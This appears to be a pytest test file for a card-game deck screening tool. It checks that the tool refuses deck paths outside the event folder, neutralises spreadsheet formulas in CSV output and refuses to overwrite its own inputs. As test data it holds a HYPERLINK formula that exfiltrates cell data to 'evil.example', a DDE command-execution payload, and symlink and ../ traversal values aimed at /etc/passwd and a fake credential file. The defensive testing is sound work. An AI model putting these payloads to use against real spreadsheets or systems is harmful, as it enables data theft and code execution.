"""Screening under hostile input: files outside the event, spreadsheet formulas, outputs that are inputs."""
from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from deckcheck.csvsafe import safe_cell, writer
from deckcheck.screening import read_registrations, screen

FIX = Path(__file__).parent / "fixtures" / "screening"
HOSTILE = FIX / "hostile"
SECRET = "4 Top Secret Credential aws_secret_access_key\n"


def _cli(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "deckcheck", *args], capture_output=True, text=True,
                          cwd=cwd, env={**os.environ, "COLUMNS": "200"}, timeout=120)


def _event_with_secret(tmp_path: Path) -> Path:
    """tmp/secret.txt (what must never be read) beside tmp/event/ (the organizer's folder)."""
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    ev = tmp_path / "event"
    ev.mkdir()
    shutil.copy(HOSTILE / "escape_roster.csv", ev / "roster.csv")
    shutil.copy(FIX / "senzir.txt", ev / "senzir.txt")
    return ev


def _reports(tmp_path: Path, *args) -> tuple[subprocess.CompletedProcess, str]:
    outs = [tmp_path / f"report.{ext}" for ext in ("csv", "json", "html")]
    r = _cli("screen", *args, "-q", *[a for o in outs for a in ("--out", str(o))])
    return r, r.stdout + "".join(o.read_text(encoding="utf-8") for o in outs if o.exists())


def test_roster_paths_outside_the_event_folder_are_refused_and_never_read(tmp_path):
    ev = _event_with_secret(tmp_path)
    r, everything = _reports(tmp_path, str(ev / "roster.csv"))
    assert r.returncode == 1, r.stderr
    assert "Top Secret" not in everything and "root:" not in everything
    data = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    rows = {p["player_id"]: p for p in data["players"]}
    for pid in ("P1", "P2"):   # an absolute path and a ../ path
        assert rows[pid]["status"] == "unreadable"
        assert rows[pid]["reason"].endswith("deck path outside the event folder")
    assert rows["P3"]["status"] == "legal"
    # the organizer can allow one more folder explicitly: then the file is read
    r, everything = _reports(tmp_path, str(ev / "roster.csv"), "--allow-outside", str(tmp_path))
    assert "Top Secret Credential" in everything
    assert "/etc/passwd: deck path outside the event folder" in everything   # still not /etc


def test_pool_path_outside_the_event_folder_is_refused(tmp_path):
    ev = _event_with_secret(tmp_path)
    (ev / "roster.json").write_text(json.dumps([{"player_id": "P1", "player_name": "Ann", "deck": "senzir.txt",
                                                 "pool": "../secret.txt"}]), encoding="utf-8")
    result = screen(read_registrations(ev / "roster.json"), "constructed", workers=1)
    try:
        (row,) = list(result.rows())
        assert row["status"] == "unreadable" and row["reason"].endswith("pool path outside the event folder")
    finally:
        result.close()


def test_folder_mode_does_not_follow_links_out_of_the_folder(tmp_path):
    ev = _event_with_secret(tmp_path)
    (ev / "roster.csv").unlink()
    os.symlink(tmp_path / "secret.txt", ev / "mallory.txt")
    os.symlink("/etc/passwd", ev / "eve.txt")
    os.symlink(ev / "senzir.txt", ev / "same_deck_by_link.txt")    # a link inside the folder is fine
    r, everything = _reports(tmp_path, str(ev))
    assert "Top Secret" not in everything and "root:" not in everything
    rows = {p["player_id"]: p for p in json.loads((tmp_path / "report.json").read_text())["players"]}
    assert rows["mallory"]["reason"].endswith("deck path outside the event folder")
    assert rows["eve"]["reason"].endswith("deck path outside the event folder")
    assert rows["same_deck_by_link"]["status"] == "legal"


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_screening_csv_neutralises_formulas(tmp_path):
    ev = tmp_path / "event"
    ev.mkdir()
    shutil.copy(HOSTILE / "injection_roster.csv", ev / "roster.csv")
    shutil.copy(FIX / "senzir.txt", ev / "senzir.txt")
    out = tmp_path / "r.csv"
    assert _cli("screen", str(ev / "roster.csv"), "-q", "--out", str(out)).returncode == 0
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["player_id"] == "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")"
    assert rows[0]["player_name"] == "'@SUM(1+1)"
    assert rows[1]["player_id"] == "'+P2" and rows[1]["player_name"] == "'-2+3"
    assert rows[2]["player_name"] == "Cy\nDee"       # a bare CR never splits the row
    assert rows[3]["player_name"] == "Plain Name"
    # file names are player ids in folder mode: a leading tab or CR too
    folder = tmp_path / "names"
    folder.mkdir()
    for stem in ("\tTab", "\rCR", "=1+2", "-3"):
        shutil.copy(FIX / "senzir.txt", folder / f"{stem}.txt")
    assert _cli("screen", str(folder), "-q", "--out", str(out)).returncode == 0
    text = out.read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    assert {r["player_id"] for r in csv.DictReader(io.StringIO(text))} == {"'\tTab", "'\nCR", "'=1+2", "'-3"}


def test_safe_cell_and_writer():
    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "x=1", "", 4, -4)] == \
        ["'=1", "'+1", "'-1", "'@x", "'\tx", "'\nx", "x=1", "", 4, -4]
    buf = io.StringIO()
    writer(buf).writerow(["=cmd|' /C calc'!A0", 3])
    assert buf.getvalue() == "'=cmd|' /C calc'!A0,3\n"


def test_collection_export_neutralises_formulas():
    from deckcheck.collection.importers import write_ours
    buf = io.StringIO()
    write_ours([{"set": "=S", "number": "+1", "finish": "-", "qty": 2, "name": "@Evil Card"}], buf)
    assert _formula_cells(buf.getvalue()) == []
    assert buf.getvalue().splitlines()[1] == "'=S,'+1,'-,2,'@Evil Card,NM,en,"


def test_an_output_that_is_an_input_is_refused(tmp_path):
    ev = _event_with_secret(tmp_path)
    roster = ev / "roster.csv"
    before = roster.read_bytes()
    for out in (roster, ev / "report.csv"):
        source = roster if out == roster else ev
        r = _cli("screen", str(source), "-q", "--out", str(out))
        assert r.returncode == 2 and r.stdout == ""
        assert len(r.stderr.strip().splitlines()) == 1 and "--out" in r.stderr, r.stderr
    assert roster.read_bytes() == before and not (ev / "report.csv").exists()


def test_a_malformed_roster_row_is_one_line_not_a_traceback(tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_bytes(b"player_id,player_name,deck\nP1,Cy\rDee,a.txt\n")
    r = _cli("screen", str(roster), "-q")
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert r.stderr.strip().splitlines() == [r.stderr.strip()] and f"{roster}:" in r.stderr
